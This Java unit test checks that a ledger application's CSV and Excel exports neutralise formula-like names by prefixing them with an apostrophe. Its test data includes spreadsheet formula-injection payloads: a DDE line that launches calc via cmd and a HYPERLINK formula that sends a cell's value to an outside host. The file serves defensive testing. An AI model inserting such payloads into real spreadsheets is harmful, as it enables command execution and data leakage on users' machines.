package org.taizhang.app;

import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.Assertions.assertInstanceOf;

import java.io.InputStream;
import java.io.PrintWriter;
import java.io.StringWriter;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Instant;
import java.time.InstantSource;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.taizhang.app.command.Commands;
import org.taizhang.app.command.Context;
import org.taizhang.app.command.Home;
import org.taizhang.app.kit.Messages;
import org.taizhang.app.page.BriefingKind;
import org.taizhang.app.xlsx.ReadBook;
import org.taizhang.model.Role;
import org.taizhang.model.edit.Edit;
import org.taizhang.persistence.Author;
import org.taizhang.persistence.LedgerFolder;
import org.taizhang.persistence.Opening;
import org.taizhang.persistence.Submission;

/**
 * Names that are formulas leave the program as names, whichever way they leave for a spreadsheet. A
 * ledger takes no name that begins with a blank.
 */
class HostileNamesTest {
  private static final List<String> NAMES =
      List.of(
          "=1+1",
          "+86",
          "-2",
          "@SUM(A1)",
          "=3\t=4\n=5",
          "＝7",
          "＋8",
          "=cmd|' /C calc'!A0",
          "=HYPERLINK(\"http://x/?\"&A1,\"详情\")");
  private static final InstantSource CLOCK =
      InstantSource.fixed(Instant.parse("2026-11-22T01:00:00Z"));

  @TempDir private Path temp;

  @BeforeEach
  void fill() {
    var builder = new LedgerBuilder().plan("=PLAN()", 2024, 2025);
    for (var name : NAMES) {
      builder.section(name).project(name, Map.of(name, Role.LEAD, "教育局", Role.RESPONSIBLE));
    }
    builder.section("学前教育").project("新建幼儿园", Map.of("教育局", Role.LEAD));
    var opening =
        assertInstanceOf(
            Opening.Writable.class, LedgerFolder.open(temp.resolve("l"), new Author("测试员"), CLOCK));
    try (var store = opening.store()) {
      for (Edit edit : Adding.edits(builder.ledger())) {
        assertInstanceOf(Submission.Saved.class, store.submit(edit, null));
      }
    }
  }

  @Test
  void leaveAsTextInCommaSeparatedValues() {
    var rows = rows(run("matrix", "=PLAN()", "--csv"));
    assertThat(rows).hasSize(NAMES.size() + 2);
    assertThat(rows.stream().flatMap(List::stream))
        .noneMatch(cell -> cell.matches("(?s)\\s*[=+@＝＋－＠-].*"));
    for (int i = 0; i < NAMES.size(); i++) {
      assertThat(rows.get(i + 1).get(1)).isEqualTo("'" + NAMES.get(i));
      assertThat(rows.get(i + 1).get(2)).isEqualTo("'" + NAMES.get(i));
    }
    assertThat(rows.getFirst()).contains("教育局").contains("'=cmd|' /C calc'!A0");
    assertThat(rows.getLast()).contains("学前教育", "新建幼儿园", "牵头");
  }

  @Test
  void leaveAsTextInEveryWorkbook() throws Exception {
    int books = 0;
    for (var kind : BriefingKind.values()) {
      if (kind != BriefingKind.MEETING) {
        var file = temp.resolve(kind.key() + ".xlsx");
        run("brief", kind.key(), "--out", file.toString());
        assertWords(new ReadBook(Files.readAllBytes(file)), kind.key());
        books++;
      }
    }
    assertThat(books).isEqualTo(5);
    var form = temp.resolve("form.xlsx");
    run("form", "--out", form.toString());
    assertThat(new ReadBook(Files.readAllBytes(form)).careless(1)).isEmpty();
  }

  private static void assertWords(ReadBook book, String kind) throws Exception {
    int hostile = 0;
    for (int sheet = 1; sheet <= book.names().size(); sheet++) {
      assertThat(book.careless(sheet)).as(kind + " " + sheet).isEmpty();
      hostile += (int) book.cells(sheet).values().stream().filter(NAMES::contains).count();
    }
    assertThat(hostile).as(kind + " holds the names").isPositive();
  }

  private String run(String... call) {
    var out = new StringWriter();
    var err = new StringWriter();
    var context =
        new Context(
            InputStream.nullInputStream(),
            new PrintWriter(out),
            new PrintWriter(err),
            new Home(temp.resolve("l"), new Author("测试员"), CLOCK),
            Messages.chinese(),
            new Desktop(new Home(temp.resolve("l"), new Author("测试员"), CLOCK)));
    assertThat(new Commands(context).run(call)).as(err.toString()).isZero();
    return out.toString();
  }

  /** RFC 4180. */
  private static List<List<String>> rows(String csv) {
    var rows = new ArrayList<List<String>>();
    var row = new ArrayList<String>();
    var cell = new StringBuilder();
    boolean quoted = false;
    for (int i = 0; i < csv.length(); i++) {
      char c = csv.charAt(i);
      if (quoted && c == '"' && i + 1 < csv.length() && csv.charAt(i + 1) == '"') {
        cell.append(csv.charAt(++i));
      } else if (c == '"') {
        quoted = !quoted;
      } else if (!quoted && (c == ',' || c == '\n')) {
        row.add(cell.toString());
        cell.setLength(0);
        if (c == '\n') {
          rows.add(List.copyOf(row));
          row.clear();
        }
      } else {
        cell.append(c);
      }
    }
    return rows;
  }
}
